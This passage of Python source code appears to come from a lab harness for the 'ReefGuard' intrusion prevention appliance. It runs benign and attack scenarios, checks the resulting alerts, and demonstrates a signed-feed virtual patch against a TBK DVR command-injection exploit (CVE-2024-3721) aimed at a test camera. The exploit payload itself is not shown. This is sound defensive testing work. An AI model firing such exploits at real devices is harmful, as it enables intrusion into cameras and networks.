            ok = bool(lab.act(role, action, *action_args).get("ok"))
            failures += not ok
            print(f"  {text:58} {'passed' if ok else 'FAILED (dropped?)'}", flush=True)
        print("\nattacks")
        for kind, text, role, action, action_args in SCENARIO:
            if kind != "attack":
                continue
            seen = len(read_alerts(data_dir))
            result = lab.act(role, action, *action_args)
            source = ATTACK_SOURCES.get(action, ATTACKER)
            alerts = _new_alerts(data_dir, seen, source, timeout=4.0)
            blocked = [a for a in alerts if a.get("alert", {}).get("action") == "blocked"]
            through = _attack_succeeded(action, result) or not blocked
            failures += through
            print(f"  {text:58} {'GOT THROUGH' if through else 'blocked'}", flush=True)
            shown = set()
            for alert in blocked or alerts:
                line = describe_alert(alert)
                if line not in shown:
                    shown.add(line)
                    print(f"      {line}")
        failures += _virtual_patch_by_feed(lab, data_dir)
        time.sleep(1.5)   # workers publish their counters about once a second
        totals = _status_totals(data_dir)
        print(f"\nbox counters: {totals.get('inspected', 0)} packets inspected, "
              f"{totals.get('bypassed', 0)} handed to the kernel, "
              f"{totals.get('dropped', 0) + totals.get('rejected', 0)} blocked, "
              f"{totals.get('alerts', 0)} alerts")
        print(f"EVE alerts and flows: {Path(data_dir) / 'eve.json'}")
        print(f"store (dashboard data): {Path(data_dir) / 'reefguard.db'}")
        if duration:
            print(f"\ndevices keep chatting for {duration:.0f} s (Ctrl-C ends sooner) ...",
                  flush=True)
        else:
            print("\ndevices keep chatting; Ctrl-C to stop and tear down ...", flush=True)
        deadline = time.time() + (duration or float("inf"))
        while time.time() < deadline:
            if box.poll() is not None:
                print(f"the box stopped unexpectedly:\n{_box_log_tail(data_dir)}")
                failures += 1
                break
            time.sleep(0.5)
    except KeyboardInterrupt:
        print("\ninterrupted")
    except Exception as exc:  # noqa: BLE001 - report, then tear down below
        failures += 1
        print(f"\nlab failed: {exc}")
        if box is not None:
            print(_box_log_tail(data_dir))
    finally:
        signal.signal(signal.SIGINT, signal.SIG_IGN)   # a second Ctrl-C must not skip teardown
        try:
            if box is not None:
                lab.stop_box(box)
            lab.destroy()
        finally:
            signal.signal(signal.SIGINT, signal.default_int_handler)
            signal.signal(signal.SIGTERM, previous_term)
        print(f"lab {lab.tag} torn down (namespaces, links, rules, processes); "
              f"data kept in {data_dir}")
    _print_what_the_box_learned(data_dir)
    if failures:
        print(f"{failures} check(s) failed")
    return 1 if failures else 0


FEED_DEMO_RULES = REPO / "signatures" / "feed-demo" / "tbk-dvr.rules"


def _virtual_patch_by_feed(lab: LabTopology, data_dir: str) -> int:
    """The product's promise in one scene: an exploit with no firmware fix
    reaches the camera; the vendor ships a virtual patch by signed feed; a
    bundle signed by anyone else is refused; the genuine one is applied live
    and the same exploit is blocked. Returns the number of failed checks."""
    from ips import feed
    from ips.service import request_reload

    print("\nvirtual patch by signed feed (the camera's vendor has no firmware fix)")
    failures = 0
    before = lab.act("inet", "tbk", "192.0.2.10")
    print(f"  {'TBK DVR command injection CVE-2024-3721, no rule yet':58} "
          f"{'reached the camera' if before.get('ok') else 'did not reach the camera'}")
    # Keys made for this run only: the private half of a key a real box
    # trusts never sits next to the code (signatures/feed-keys/README).
    work = Path(data_dir) / "feed-demo"
    shutil.rmtree(work, ignore_errors=True)
    for name in ("vendor", "impostor", "trusted"):
        (work / name).mkdir(parents=True)
    vendor_key, vendor_public = feed.generate_key(work / "vendor" / "vendor")
    impostor_key, _ = feed.generate_key(work / "impostor" / "impostor")
    trusted = work / "trusted"
    (trusted / vendor_public.name).write_bytes(vendor_public.read_bytes())
    version = (feed.installed_version(data_dir) or 0) + 1     # a --data-dir used before
    genuine = feed.build_bundle([FEED_DEMO_RULES], vendor_key, version,
                                work / "vendor.tar.gz", "reefguard-demo")
    forged = feed.build_bundle([FEED_DEMO_RULES], impostor_key, version + 1,
                               work / "forged.tar.gz", "reefguard-demo")
    keys = feed.default_key_dirs([trusted])
    try:
        feed.apply_from(str(forged), data_dir, keys)
        print("  a bundle signed by an unknown key was ACCEPTED")
        failures += 1
    except feed.FeedError as exc:
        print(f"  {'bundle signed by an unknown key':58} refused ({exc})")
    reloads = _status_totals(data_dir).get("reloads", 0)
    result = feed.apply_from(str(genuine), data_dir, keys)
    request_reload(data_dir)
    deadline = time.time() + 60
    while time.time() < deadline and _status_totals(data_dir).get("reloads", 0) <= reloads:
        time.sleep(0.3)
    status = result.status
    print(f"  {f'vendor bundle v{version}, signed, applied live':58} installed: "
          f"{status.get('rules')} rule(s), version {status.get('version')}")
    seen = len(read_alerts(data_dir))
    after = lab.act("inet", "tbk", "192.0.2.10")
    alerts = _new_alerts(data_dir, seen, ATTACKER, timeout=4.0)
    blocked = [a for a in alerts if a.get("alert", {}).get("action") == "blocked"]
    through = bool(after.get("ok")) or not blocked
    failures += through
    print(f"  {'the same exploit after the update':58} {'GOT THROUGH' if through else 'blocked'}")
    for line in dict.fromkeys(describe_alert(a) for a in blocked):
        print(f"      {line}")
    return failures


def _print_what_the_box_learned(data_dir) -> None:
    """The owner's view after the run: devices found and behaviour flagged,
    read from the store the dashboard uses."""
    import sqlite3
    path = Path(data_dir) / "reefguard.db"
    if not path.exists():
        return
    try:
        conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
        devices = conn.execute(
            "SELECT mac, ip, vendor, COALESCE(user_type, type_guess), stage FROM devices"
            " WHERE mac NOT LIKE 'ip:%' ORDER BY ip").fetchall()
        anomalies = conn.execute(
            "SELECT kind, explanation FROM device_anomalies ORDER BY ts").fetchall()
        conn.close()
    except sqlite3.Error as exc:
        print(f"(could not read the store: {exc})")
        return
    if devices:
        print("\ndevices the box found")
        for mac, ip, vendor, kind, stage in devices:
            print(f"  {ip or '-':<14} {mac}  {(vendor or '?')[:34]:<34} {kind or 'type unknown':<16} {stage}")
    if anomalies:
        print("\nunusual behaviour, as the dashboard explains it")
        for kind, explanation in anomalies[:10]:
            print(f"  [{kind}] {explanation}")


def main(argv: list[str]) -> None:
    if len(argv) >= 2 and argv[0] == "agent":
        agent(argv[1], argv[2:])
    elif len(argv) >= 2 and argv[0] == "act":
        print(json.dumps(act(argv[1], argv[2:])))
    else:
        raise SystemExit("usage: python -m appliance.lab agent ROLE [ARGS] | act ACTION [ARGS]")


if __name__ == "__main__":
    main(sys.argv[1:])
